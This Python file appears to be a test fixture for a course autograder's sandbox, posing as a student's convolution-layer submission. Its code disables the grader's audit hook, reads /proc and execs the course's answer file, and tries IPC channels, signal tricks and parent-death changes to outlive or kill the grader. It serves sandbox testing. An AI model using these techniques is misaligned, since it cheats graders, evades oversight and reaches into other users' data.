"""Hostile example: switches the sandbox's Python guards off, then tries the kernel's.

Written as a student who has read the grader's source.  The audit hook that
refuses ctypes, reads and signals is a Python function: ``gc.get_objects()``
finds it, and giving it the code of a function that does nothing switches it
off (`switch_off_the_audit_hook`).  Then, with ctypes and the os module, it
tries to (`escape_attempts`):

- read the course's correct answer, found by walking up from NumPy's folder
  (a virtual environment inside the course folder) or from the grader's
  command line in ``/proc/<ancestor>/cmdline``, and run it: every function
  here is that file's (`_stolen`), so this file does no work of its own;
- list ``/proc`` and read ``/proc/1/cmdline`` (other graders, classmates'
  paths);
- make a System V shared memory segment, message queue and semaphore (a
  channel to the next student's sandbox that outlives the run);
- clear its parent-death signal (``prctl(PR_SET_PDEATHSIG, 0)``), to outlive
  the grader;
- make the kernel signal the grader through the protocol pipes
  (``F_SETOWN`` to the parent, ``F_SETSIG`` SIGKILL, ``O_ASYNC``, and the
  ``FIOASYNC`` ioctl).

In the sandbox the kernel refuses every one of them, so every function
fails and the file scores 0.
"""

import errno
import gc
import os
import sys

import numpy as np


def switch_off_the_audit_hook():
    """Give every audit hook from the grader's restrictions module the code of a function that does nothing."""
    hooks = [item for item in gc.get_objects() if type(item).__name__ == "function" and item.__name__ == "hook"
             and item.__code__.co_filename.endswith("restrictions.py")]
    for hook in hooks:
        names = hook.__code__.co_freevars  # the new code must use as many closure cells
        source = "def outer():\n" + "".join(f"    {name} = None\n" for name in names)
        source += "    def hook(event, args):\n        " + ("; ".join(names) or "pass") + "\n    return hook\n"
        namespace = {}
        exec(source, namespace)
        hook.__code__ = namespace["outer"]().__code__
    return bool(hooks)


def _candidates():
    """Where the course's correct answer may be: above NumPy's folder, or named on an ancestor's command line."""
    places = [os.path.dirname(np.__file__)]
    try:
        for pid in os.listdir("/proc"):
            if pid.isdigit():
                try:
                    places += open(f"/proc/{pid}/cmdline", "rb").read().decode(errors="replace").split("\0")
                except OSError:
                    pass
    except OSError:
        pass
    for place in places:
        folder = os.path.abspath(place)
        while folder != "/":
            yield os.path.join(folder, "examples", "conv_layers", "correct.py")
            folder = os.path.dirname(folder)


def _stolen():
    switch_off_the_audit_hook()
    for path in _candidates():
        try:
            source = open(path).read()
        except OSError:
            continue
        namespace = {}
        exec(source, namespace)
        return namespace
    raise FileNotFoundError("the course's answers could not be read")


def _outcome(attempt):
    """"allowed", or the errno the refusal gave."""
    try:
        attempt()
        return "allowed"
    except OSError as error:
        return f"refused ({errno.errorcode.get(error.errno, error.errno)})"


def escape_attempts():
    """Switch the audit hook off, try every escape, and say for each whether it was allowed."""
    import ctypes
    import fcntl
    import struct

    switched_off = switch_off_the_audit_hook()
    libc = ctypes.CDLL(None, use_errno=True)

    def check(result):
        if result == -1:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        return result

    ipc_private, ipc_create, ipc_remove = 0, 0o1000, 0

    def shared_memory():
        libc.shmctl(check(libc.shmget(ipc_private, 1 << 20, ipc_create | 0o666)), ipc_remove, None)

    def message_queue():
        libc.msgctl(check(libc.msgget(ipc_private, ipc_create | 0o666)), ipc_remove, None)

    def semaphore():
        libc.semctl(check(libc.semget(ipc_private, 1, ipc_create | 0o666)), 0, ipc_remove)

    reply_fd = int(sys.argv[2])  # the protocol's reply pipe
    course_file = next(path for path in _candidates() if os.path.exists(path))
    return {
        "audit hook switched off": switched_off,
        "read the course's answer": _outcome(lambda: open(course_file).read()),
        "list /proc": _outcome(lambda: os.listdir("/proc")),
        "read /proc/1/cmdline": _outcome(lambda: open("/proc/1/cmdline").read()),
        "read the parent's cmdline": _outcome(lambda: open(f"/proc/{os.getppid()}/cmdline").read()),
        "shmget": _outcome(shared_memory),
        "msgget": _outcome(message_queue),
        "semget": _outcome(semaphore),
        "prctl PR_SET_PDEATHSIG 0": _outcome(lambda: check(libc.prctl(1, 0, 0, 0, 0))),
        "fcntl F_SETOWN": _outcome(lambda: fcntl.fcntl(reply_fd, fcntl.F_SETOWN, os.getppid())),
        "fcntl F_SETSIG": _outcome(lambda: fcntl.fcntl(reply_fd, 10, 9)),  # F_SETSIG, SIGKILL
        "fcntl F_SETFL O_ASYNC": _outcome(lambda: fcntl.fcntl(reply_fd, fcntl.F_SETFL, os.O_ASYNC)),
        "ioctl FIOASYNC": _outcome(lambda: fcntl.ioctl(reply_fd, 0x5452, struct.pack("i", 1))),
    }


def zero_pad(x, pad):
    return _stolen()["zero_pad"](x, pad)


def conv_output_size(in_size, filter_size, stride=1, pad=0, dilation=1):
    return _stolen()["conv_output_size"](in_size, filter_size, stride, pad, dilation)


def conv_param_count(in_channels, num_filters, filter_size, bias=True):
    return _stolen()["conv_param_count"](in_channels, num_filters, filter_size, bias)


def conv_forward_naive(x, w, b, conv_param):
    return _stolen()["conv_forward_naive"](x, w, b, conv_param)


def conv_backward_naive(dout, cache):
    return _stolen()["conv_backward_naive"](dout, cache)


def max_pool_forward_naive(x, pool_param):
    return _stolen()["max_pool_forward_naive"](x, pool_param)


def max_pool_backward_naive(dout, cache):
    return _stolen()["max_pool_backward_naive"](dout, cache)
